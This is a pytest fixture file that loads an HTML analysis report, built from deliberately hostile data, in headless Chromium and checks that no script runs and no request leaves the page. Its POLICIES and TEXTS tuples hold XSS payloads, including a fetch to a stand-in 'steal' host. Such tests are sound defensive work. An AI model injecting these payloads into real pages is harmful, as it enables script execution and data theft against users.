"""A headless Chromium, and a report made from the worst data we can think of."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from cje.analysis import analyze_dataset
from cje.estimators import EstimationResult

ARGUMENTS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
POLICIES = (
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=2>",
    '\u202eيسار" onmouseover="window.pwned=3',
    "😀 {{7*7}} {% raw %} $\\frac{1}{0}$ &amp; <!--",
)
TEXTS = (
    "</script><script>window.pwned=4;fetch('https://example.invalid/steal')</script>",
    "<img src='https://example.invalid/x.png' onerror='window.pwned=5'>",
    "<svg/onload=window.pwned=6><iframe srcdoc='<script>parent.pwned=7</script>'></iframe>",
    "<!-- <script> --> ]]> <style>*{display:none}</style><base href='https://example.invalid/'>",
    "javascript:window.pwned=8 \u2028\u2029 \u0000 \u202e\u2066 مرحبا بالعالم שלום",
    "👩‍👩‍👧‍👦" * 400 + " 𝕏" * 300,
    "<meta http-equiv=refresh content='0;url=https://example.invalid/'>" * 30,
    "<b>" + "x" * 1_000_000,
    "&lt;already&gt; &#60;escaped&#62; \\u003cscript\\u003e",
)


@dataclass(frozen=True)
class HostileReport:
    """The page on disk, and the result it shows."""

    path: Path
    result: EstimationResult
    rows: int


def hostile_rows(n_prompts: int = 300, seed: int = 5) -> list[dict[str, Any]]:
    rng = np.random.default_rng(seed)
    rows = []
    for i in range(n_prompts):
        ease = rng.normal()
        for k, policy in enumerate(POLICIES):
            value = 1 / (1 + np.exp(-(ease + 0.5 * k + rng.normal())))
            row = {
                "prompt_id": f"<i>{i}</i>",
                "policy": policy,
                "judge_score": round(float(np.clip(value + 0.1 * rng.normal(), 0, 1)), 3),
                "prompt": f"{i} {TEXTS[i % len(TEXTS)][:5000]}",
                "response": TEXTS[(i + k) % len(TEXTS)] if i < 60 else f"plain answer {i}",
                "<u>topic</u>": ["<b>maths</b>", "'\"><script>", "plain"][i % 3],
            }
            # the last policy is never labelled: its calibration is borrowed
            if k < 3 and rng.random() < 0.4:
                row["oracle_label"] = round(float(value), 3)
            rows.append(row)
    return rows


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> HostileReport:
    folder = tmp_path_factory.mktemp("hostile")
    data = folder / "data.jsonl"
    rows = hostile_rows()
    data.write_text("\n".join(json.dumps(row) for row in rows), encoding="utf-8")
    result = analyze_dataset(data, by="<u>topic</u>", text=True)
    truth = {name: float(v) + 0.01 for name, v in zip(POLICIES, result.estimates, strict=True)}
    result = result.with_(metadata={"truth": truth})
    result.to_html(folder / "report.html", title="<script>window.pwned=9</script> values")
    return HostileReport(folder / "report.html", result, len(rows))


def find_browser() -> str | None:
    names = ("chromium", "chromium-browser", "google-chrome")
    return next((found for name in names if (found := shutil.which(name))), None)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    # Not for the whole session: playwright keeps an event loop running in this thread while it is
    # open, and any later asyncio.run in the same worker would be refused.
    program = find_browser()
    if program is None:
        reason = "no chromium, chromium-browser or google-chrome: run scripts/setup_system.sh"
        if os.environ.get("CI") == "true":
            pytest.fail(reason)
        pytest.skip(reason)
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as play:
        started = play.chromium.launch(executable_path=program, args=ARGUMENTS)
        yield started
        started.close()


class Watch:
    """A page, and everything it said or asked for."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.problems: list[str] = []
        self.requests: list[str] = []
        self.failed: dict[str, str] = {}
        page.on("console", lambda m: self.problems.append(f"{m.type}: {m.text}"))
        page.on("pageerror", lambda e: self.problems.append(f"page error: {e}"))
        page.on("dialog", self._dialog)
        page.on("request", lambda r: self.requests.append(r.url))
        page.on("requestfailed", lambda r: self.failed.update({r.url: str(r.failure)}))

    def _dialog(self, dialog: Any) -> None:
        self.problems.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def settled(self) -> None:
        """Nothing ran, nothing left the page, nothing was complained about."""
        assert self.page.evaluate("window.pwned") is None
        assert self.problems == []
        assert [url for url in self.requests if not url.startswith(("file:", "data:"))] == []
        assert len([url for url in self.requests if url.startswith("file:")]) == 1


@pytest.fixture
def open_page(browser: Any) -> Iterator[Any]:
    """A function that opens a file in a fresh context; contexts are closed afterwards."""
    contexts = []

    def open_(path: Path, *, width: int = 1280, theme: str = "light") -> Watch:
        context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=theme)
        contexts.append(context)
        watch = Watch(context.new_page())
        watch.page.goto(path.as_uri())
        return watch

    yield open_
    for context in contexts:
        context.close()
